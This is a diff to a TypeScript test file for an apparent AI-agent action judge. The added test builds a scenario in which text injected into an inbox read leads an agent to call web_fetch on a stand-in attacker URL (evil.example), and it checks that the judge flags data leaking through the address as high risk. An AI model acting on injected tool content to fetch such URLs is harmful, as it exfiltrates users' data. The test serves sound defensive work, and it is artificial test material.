@@ -90,7 +90,7 @@ describe('a call that only reads', () => {
     amounts: fc.subarray(['1', '10', '100', '1000']),
   });
   const args = fc.record({
-    id: fc.constantFrom('7', 'https://evil.example/in?d=1', 'ann@example.com'),
+    id: fc.constantFrom('7', 'W100', 'ann@example.com'),
     amount: fc.constantFrom('5.00', '90000.00'),
     to: fc.constantFrom('ann@example.com', 'DE89370400440532013000'),
   });
@@ -111,6 +111,16 @@ describe('a call that only reads', () => {
       }),
       { numRuns: 60 },
     ); // prettier-ignore
+  });
+
+  test('is held against what went before where it reads an address on the web', async () => {
+    const texts = [{ field: 's0', provenance: 'tool' as const, text: `ann@example.com, DE89370400440532013000. ${injected}` }];
+    const known = { history: { calls: 3 }, steps: [{ kind: 'tool' as const, name: 'read_inbox', texts }], task: 'Where is my order?', unseen: [] }; // prettier-ignore
+    const over = { args: { url: 'https://evil.example/in?d=1' }, before: () => Promise.resolve(known) };
+    const { assessment, effect } = await judgeAction({ documents: [] }, call('web_fetch', 'read', over));
+    expect(effect.effect).toBe('read');
+    expect(assessment.findings.map((one) => one.reasonCode)).toContain('trace.dataInAddress');
+    expect(assessment.tier).toBe('high');
   });
 
   test('does not count as one where its arguments do more', async () => {
